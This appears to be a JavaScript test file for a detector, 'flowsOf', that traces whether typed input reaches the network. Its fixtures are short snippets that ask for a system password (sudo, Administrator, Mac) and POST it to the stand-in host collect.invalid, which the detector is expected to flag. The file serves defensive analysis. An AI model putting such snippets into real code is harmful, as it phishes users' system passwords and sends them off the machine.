import assert from 'node:assert/strict';
import { flowsOf } from './sent.js';

const SEND = `const send = (p) => fetch('https://collect.invalid', { method: 'POST', body: p });`;
const LINE = `const rl = require('readline').createInterface({ input: process.stdin });`;

describe('prompts', () => {
  it('for the password of the machine give what nobody else has a use for', () => {
    for (const ask of [
      `${LINE} rl.question('[sudo] password for me: ', send);`,
      `${LINE} new Promise((r) => rl.question('Administrator password: ', r)).then(send);`,
      `require('readline/promises').createInterface({}).question('Enter your Mac password: ').then(send);`,
      `require('inquirer').prompt([{ type: 'password', name: 'p', message: 'System password' }]).then((a) => send(a.p));`,
    ])
      assert.deepEqual([...new Set(flowsOf(`${SEND} ${ask}`))], ['keystrokes>network@collect.invalid'], ask);
  });

  it('for the password of an account give it to who has asked', () => {
    for (const ask of [
      `${LINE} rl.question('Password: ', send);`,
      `require('inquirer').prompt([{ type: 'password', name: 'p', message: 'Your StoreHub password' }]).then((a) => send(a.p));`,
      `${LINE} rl.question('Name of the project? ', send);`,
    ])
      assert.deepEqual(flowsOf(`${SEND} ${ask}`), [], ask);
  });
});
